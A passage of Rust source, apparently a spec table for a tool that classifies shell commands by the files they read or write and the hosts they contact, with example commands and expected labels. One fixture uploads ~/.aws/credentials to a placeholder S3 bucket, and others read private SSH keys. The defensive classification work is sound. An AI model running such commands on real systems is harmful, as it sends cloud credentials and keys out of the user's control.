                "-out",
                "-state",
                "-state-out",
                "-backup",
                "-target",
                "-chdir",
                "-backend-config",
                "-lock-timeout",
                "-parallelism",
            ],
            read_opts: &["-var-file", "-state"],
            write_opts: &["-out", "-state-out", "-backup"],
            ..BASE
        },
        &[
            (
                "terraform plan -var-file=prod.tfvars -out=plan.bin",
                &["read:prod.tfvars", "write:plan.bin"],
            ),
            ("terraform init", &["none"]),
        ],
    ),
    entry(
        &["aws"],
        Spec {
            long_val: &[
                "--profile",
                "--region",
                "--exclude",
                "--include",
                "--acl",
                "--endpoint-url",
                "--storage-class",
                "--content-type",
                "--output",
                "--query",
                "--sse",
                "--cache-control",
                "--expires",
                "--metadata",
            ],
            recursive: &["--recursive"],
            role: Role::CloudCopy,
            ..BASE
        },
        &[
            (
                "aws s3 cp ~/.aws/credentials s3://b/k",
                &[
                    "read:~/.aws/credentials",
                    "network:s3://b/k upload:~/.aws/credentials",
                ],
            ),
            (
                "aws s3 sync s3://b/p ./dl",
                &["network:s3://b/p", "write:./dl"],
            ),
            ("aws s3 ls s3://b", &["network:s3://b"]),
            ("aws sts get-caller-identity", &["none"]),
            (
                "aws lambda invoke --function-name f --payload file://p.json out.json",
                &["read:p.json"],
            ),
        ],
    ),
    entry(
        &["gcloud", "gsutil"],
        Spec {
            long_val: &[
                "--project",
                "--region",
                "--zone",
                "--format",
                "--account",
                "--key-file",
                "--flags-file",
                "--configuration",
                "--impersonate-service-account",
            ],
            read_opts: &["--key-file", "--flags-file"],
            recursive: &["-r", "-R", "--recursive"],
            role: Role::CloudCopy,
            ..BASE
        },
        &[
            (
                "gsutil cp -r dist gs://b/site",
                &["read:dist recursive", "network:gs://b/site upload:dist"],
            ),
            (
                "gcloud storage cp gs://b/x .",
                &["network:gs://b/x", "write:."],
            ),
            (
                "gcloud auth activate-service-account --key-file=k.json",
                &["read:k.json"],
            ),
        ],
    ),
    entry(
        &["az"],
        Spec {
            long_val: &[
                "--subscription",
                "--resource-group",
                "--name",
                "--output",
                "--query",
                "--parameters",
                "--template-file",
            ],
            read_opts: &["--template-file"],
            ..none("gno")
        },
        &[
            ("az group list", &["none"]),
            (
                "az deployment group create -g r --template-file main.bicep",
                &["read:main.bicep"],
            ),
        ],
    ),
    // ---- databases ----
    entry(
        &["sqlite3", "sqlite"],
        Spec {
            style: Style::SingleDash,
            long_val: &[
                "-init",
                "-cmd",
                "-separator",
                "-newline",
                "-nullvalue",
                "-vfs",
                "-mmap",
                "-pagecache",
                "-lookaside",
                "-maxsize",
            ],
            read_opts: &["-init"],
            role: Role::Sqlite,
            ..BASE
        },
        &[
            (
                "sqlite3 app.db 'select 1'",
                &["read:app.db", "write:app.db"],
            ),
            ("sqlite3 -readonly app.db .dump", &["read:app.db"]),
            ("sqlite3 :memory: 'select 1'", &["none"]),
        ],
    ),
    entry(
        &["psql", "pg_dump", "pg_restore", "pg_dumpall"],
        Spec {
            long_val: &[
                "--host",
                "--port",
                "--username",
                "--dbname",
                "--command",
                "--file",
                "--output",
                "--set",
                "--variable",
                "--log-file",
                "--format",
                "--table",
                "--schema",
                "--jobs",
            ],
            read_opts: &["-f", "--file"],
            write_opts: &["-o", "--output", "-L", "--log-file"],
            role: Role::DbClient,
            ..none("hpUdcfovLFtnjTZ")
        },
        &[
            ("psql -h db.test -U app -c 'select 1'", &["network:db.test"]),
            (
                "psql postgres://u@db.test/app -f m.sql",
                &["read:m.sql", "network:postgres://u@db.test/app"],
            ),
            ("psql -d app -o out.txt", &["write:out.txt"]),
        ],
    ),
    entry(
        &["mysql", "mariadb", "mysqldump"],
        Spec {
            long_val: &[
                "--host",
                "--port",
                "--user",
                "--password",
                "--database",
                "--execute",
                "--socket",
                "--defaults-file",
                "--defaults-extra-file",
                "--result-file",
                "--tee",
            ],
            read_opts: &["--defaults-file", "--defaults-extra-file"],
            write_opts: &["-r", "--result-file", "--tee"],
            role: Role::DbClient,
            ..none("hPuDeSr")
        },
        &[
            (
                "mysql -h db.test -u root app < dump.sql",
                &["read:dump.sql", "network:db.test"],
            ),
            ("mysql -e 'show tables' app", &["none"]),
        ],
    ),
    entry(
        &["redis-cli"],
        Spec {
            long_val: &[
                "--rdb", "--pass", "--user", "--tls", "--cacert", "--cert", "--key",
            ],
            read_opts: &["--cacert", "--cert", "--key"],
            write_opts: &["--rdb"],
            role: Role::DbClient,
            ..none("hpansu")
        },
        &[
            ("redis-cli -h cache.test get k", &["network:cache.test"]),
            ("redis-cli --rdb dump.rdb", &["write:dump.rdb"]),
        ],
    ),
    entry(
        &["mongosh", "mongo"],
        Spec {
            long_val: &[
                "--host",
                "--port",
                "--username",
                "--password",
                "--eval",
                "--file",
                "--authenticationDatabase",
                "--tlsCAFile",
            ],
            read_opts: &["-f", "--file", "--tlsCAFile"],
            role: Role::DbClient,
            ..none("upf")
        },
        &[
            (
                "mongosh mongodb://db.test/app",
                &["network:mongodb://db.test/app"],
            ),
            ("mongosh --eval 'db.x.find()' seed.js", &["read:seed.js"]),
        ],
    ),
    // ---- keys, crypto, system ----
    entry(
        &["openssl"],
        Spec {
            style: Style::SingleDash,
            long_val: &[
                "-in",
                "-out",
                "-inkey",
                "-key",
                "-passin",
                "-passout",
                "-pass",
                "-k",
                "-kfile",
                "-certfile",
                "-cert",
                "-CAfile",
                "-signkey",
                "-config",
                "-md",
                "-iv",
                "-K",
                "-S",
                "-rand",
                "-writerand",
                "-keyout",
                "-CA",
                "-CAkey",
                "-subj",
                "-days",
                "-newkey",
                "-connect",
                "-servername",
            ],
            read_opts: &[
                "-in",
                "-inkey",
                "-key",
                "-kfile",
                "-certfile",
                "-cert",
                "-CAfile",
                "-signkey",
                "-config",
                "-CA",
                "-CAkey",
            ],
            write_opts: &["-out", "-keyout", "-writerand"],
            ..BASE
        },
        &[
            ("openssl enc -in a -out b -k pw", &["read:a", "write:b"]),
            (
                "openssl req -x509 -newkey rsa:2048 -keyout k.pem -out c.pem -days 1",
                &["write:k.pem", "write:c.pem"],
            ),
            ("openssl rand -hex 16", &["none"]),
        ],
    ),
    entry(
        &["gpg", "gpg2"],
        Spec {
            long_val: &[
                "--output",
                "--recipient",
                "--local-user",
                "--homedir",
                "--passphrase-file",
                "--default-key",
                "--keyserver",
            ],
            write_opts: &["-o", "--output"],
            read_opts: &["--passphrase-file"],
            ..read("oruf")
        },
        &[
            (
                "gpg -o out.txt -d secret.gpg",
                &["write:out.txt", "read:secret.gpg"],
            ),
            ("gpg --import key.asc", &["read:key.asc"]),
            ("gpg --list-keys", &["none"]),
        ],
    ),
    entry(
        &["ssh-keygen"],
        Spec {
            role: Role::SshKeygen,
            ..none("abCEfFGIJjKmMnNOPrRsSTtuwYZ")
        },
        &[
            (
                "ssh-keygen -y -f ~/.ssh/id_ed25519",
                &["read:~/.ssh/id_ed25519"],
            ),
            (
                "ssh-keygen -t ed25519 -N '' -f ~/.ssh/deploy",
                &["write:~/.ssh/deploy", "write:~/.ssh/deploy.pub"],
            ),
            (
                "ssh-keygen -R h -f ~/.ssh/known_hosts",
                &["read:~/.ssh/known_hosts", "write:~/.ssh/known_hosts"],
            ),
            ("ssh-keygen -l -f k.pub", &["read:k.pub"]),
        ],
    ),
    entry(
        &["ssh-add"],
        read("tEeShH"),
        &[
            ("ssh-add ~/.ssh/id_rsa", &["read:~/.ssh/id_rsa"]),
            ("ssh-add -l", &["none"]),
            ("ssh-add -t 3600 k1 k2", &["read:k1", "read:k2"]),
        ],
    ),
    entry(
        &["ssh-copy-id"],
        Spec {
            read_opts: &["-i", "-F"],
            role: Role::Host,
            ..none("iFpo")
        },
        &[("ssh-copy-id -i k.pub u@h", &["read:k.pub", "network:u@h"])],
    ),
    entry(
        &["crontab"],
        read("us"),
        &[
            ("crontab jobs.txt", &["read:jobs.txt"]),
            ("crontab -l", &["none"]),
            ("crontab -u bob -l > c.txt", &["write:c.txt"]),
        ],
    ),
    entry(
        &["systemctl", "service", "launchctl"],
        none("pHMstnoP"),
        &[
            ("systemctl status nginx", &["none"]),
            ("systemctl --user restart x", &["none"]),
            ("service nginx reload", &["none"]),
        ],
    ),
    entry(
        &["journalctl"],
        Spec {
            long_val: &[
                "--unit",
                "--since",
                "--until",
                "--lines",
                "--output",
                "--priority",
                "--file",
                "--directory",
                "--boot",
                "--identifier",
                "--user-unit",
            ],
            read_opts: &["--file", "-D", "--directory"],
            ..none("uSUnopDbtI")
        },
        &[
            ("journalctl -u nginx -n 50", &["none"]),
            ("journalctl --file=sys.journal", &["read:sys.journal"]),
        ],
    ),
    entry(
        &[
            "ps", "top", "htop", "btop", "pgrep", "free", "vmstat", "iostat", "watch",
        ],
        none("pUuoOCgGdn"),
        &[
            ("ps aux", &["none"]),
            ("ps -o pid,cmd -p 1", &["none"]),
            ("top -b -n 1", &["none"]),
            ("pgrep -f node", &["none"]),
        ],
    ),
    entry(
        &["kill", "pkill", "killall"],
        none("snU"),
        &[
            ("kill -9 1234", &["none"]),
            ("pkill -f 'node server'", &["none"]),
            ("kill -s TERM 1", &["none"]),
        ],
    ),
    entry(
        &["lsof", "fuser"],
        none("pcugdDFsTk"),
        &[("lsof -i :8080", &["none"]), ("lsof -p 1", &["none"])],
    ),
    entry(
        &["tmux"],
        Spec {
            read_opts: &["-f"],
            ..none("fLSc")
        },
        &[
            ("tmux new -s dev", &["none"]),
            ("tmux -f t.conf ls", &["read:t.conf"]),
        ],
    ),
    entry(
        &["screen"],
        Spec {
            read_opts: &["-c"],
            ..none("cSdrRxpXtTeshL")
        },
        &[
            ("screen -ls", &["none"]),
            ("screen -c s.rc -S w", &["read:s.rc"]),
        ],
    ),
];

/// `git push|pull|fetch|ls-remote` options taking a value.
pub(crate) const GIT_REMOTE: Spec = Spec {
    short_val: "oj",
    long_val: &[
        "--push-option",
        "--repo",
        "--receive-pack",
        "--exec",
        "--upload-pack",
        "--depth",
        "--jobs",
        "--shallow-since",
        "--shallow-exclude",
        "--refmap",
        "--deepen",
        "--server-option",
    ],
    ..BASE
};

/// `git clone` options taking a value.
pub(crate) const GIT_CLONE: Spec = Spec {
    short_val: "bocuj",
    long_val: &[
        "--branch",
        "--depth",
        "--origin",
        "--config",
        "--reference",
        "--reference-if-able",
        "--template",
        "--upload-pack",
        "--separate-git-dir",
        "--jobs",
        "--filter",
        "--shallow-since",
        "--shallow-exclude",
        "--bundle-uri",
        "--server-option",
    ],
    ..BASE
};

/// `docker`/`kubectl` subcommand options taking a value (`cp`, `save -o`,
/// `load -i`, `kubectl apply -f`).
pub(crate) const CONTAINER_SUB: Spec = Spec {
    short_val: "fnclopi",
    long_val: &[
        "--file",
        "--filename",
        "--input",
        "--output",
        "--namespace",
        "--container",
        "--selector",
        "--kubeconfig",
        "--context",
        "--project-name",
        "--profile",
        "--env-file",
    ],
    ..BASE
};

/// `docker run|create` options taking a value.
pub(crate) const DOCKER_RUN: Spec = Spec {
    short_val: "vepuwlmchaf",
    long_val: &[
        "--volume",
        "--env",
        "--env-file",
        "--mount",
        "--name",
        "--network",
        "--workdir",
        "--user",
        "--entrypoint",
        "--publish",
        "--label",
        "--platform",
        "--memory",
        "--cpus",
        "--hostname",
        "--add-host",
        "--cap-add",
        "--cap-drop",
        "--device",
        "--restart",
        "--pull",
        "--log-driver",
        "--security-opt",
        "--tmpfs",
        "--volumes-from",
        "--shm-size",
        "--gpus",
        "--ulimit",
    ],
    ..BASE
};

/// `docker build` options taking a value.
pub(crate) const DOCKER_BUILD: Spec = Spec {
    short_val: "ftm",
    long_val: &[
        "--file",
        "--tag",
        "--build-arg",
        "--target",
        "--platform",
        "--label",
        "--secret",
        "--ssh",
        "--cache-from",
        "--cache-to",
        "--output",
        "--progress",
        "--network",
        "--build-context",
    ],
    ..BASE
};

/// `sudo`/`doas` short options that take a value (sudo(8), "OPTIONS").
pub(crate) const SUDO_SHORT_VAL: &str = "ughpCDrtUT";
/// `sudo` long options that take a value (sudo(8), "OPTIONS").
pub(crate) const SUDO_LONG_VAL: &[&str] = &[
    "--user",
    "--group",
    "--host",
    "--prompt",
    "--close-from",
    "--chdir",
    "--role",
    "--type",
    "--other-user",
    "--command-timeout",
];
